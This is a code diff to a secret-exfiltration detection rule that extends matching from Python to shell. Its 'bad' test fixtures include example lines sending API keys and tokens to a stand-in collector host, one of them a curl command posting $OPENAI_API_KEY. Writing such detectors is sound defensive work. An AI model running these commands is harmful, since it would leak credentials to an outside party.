@@ -2,6 +2,7 @@ import { all, any, anyArgument, argument, call, from, matches } from "../match.t
 import { defineRule } from "../rule.ts";
 import { NAMED_HOST } from "../vocabulary/hosts.ts";
 import { SENDS } from "../vocabulary/network-calls.ts";
+import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
 import { heldSecret } from "../vocabulary/sources.ts";
 
 export default defineRule({
@@ -9,23 +10,27 @@ export default defineRule({
   category: "api_exfiltration",
   severity: "high",
   confidence: "medium",
-  languages: ["python"],
+  languages: ["python", "shell"],
   title: "a secret is sent to another service than the one that it is named after",
   why: "The receiver can use the key in the owner's place.",
   fix: "Send a key only to the service that issued it, and name the variable after that service.",
   references: ["CWE-201", "ATT&CK T1041", "ATT&CK T1552"],
-  match: call({
-    of: SENDS,
-    where: all(
-      any(argument([0, "url"], matches(NAMED_HOST)), argument(1, matches(NAMED_HOST))),
-      anyArgument(from(heldSecret)),
-    ),
-  }),
+  match: [
+    call({
+      of: SENDS,
+      where: all(
+        any(argument([0, "url"], matches(NAMED_HOST)), argument(1, matches(NAMED_HOST))),
+        anyArgument(from(heldSecret)),
+      ),
+    }),
+    call({ of: SHELL_SENDS, where: all(anyArgument(matches(NAMED_HOST)), anyArgument(from(heldSecret))) }),
+  ],
   needs: "foreign-secret",
   bad: [
     'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://collector.example/in", json={"key": key})',
     'import os, requests\nrequests.get("https://collector.example", headers={"X-Key": os.getenv("AWS_SECRET_ACCESS_KEY")})',
     'import os, urllib.request\nk = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://collector.example/?token={k}")',
+    { "run.sh": 'curl -d "k=$OPENAI_API_KEY" https://collector.example/in' },
   ],
   good: [
     'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.acme.example", json={"key": key})',
@@ -33,5 +38,6 @@ export default defineRule({
     'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post(os.environ["ACME_URL"], json={"key": key})',
     'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("http://localhost:4000/v1", json={"key": key})',
     'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.other.example", json={"a": 1})',
+    { "run.sh": 'curl -H "x-api-key: $ACME_API_KEY" https://api.acme.example/v1' },
   ],
 });
